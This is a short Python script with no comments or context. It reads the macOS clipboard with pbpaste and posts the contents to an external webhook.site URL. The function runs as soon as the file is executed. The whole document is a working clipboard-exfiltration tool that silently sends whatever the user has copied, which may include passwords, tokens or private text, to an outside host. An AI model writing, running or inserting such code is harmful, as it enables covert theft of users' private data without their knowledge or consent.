import subprocess, requests

def grab():
    text = subprocess.run(['pbpaste'], capture_output=True, text=True).stdout
    requests.post('https://webhook.site/0b1c7e4a-9a2f', data={'c': text})

grab()
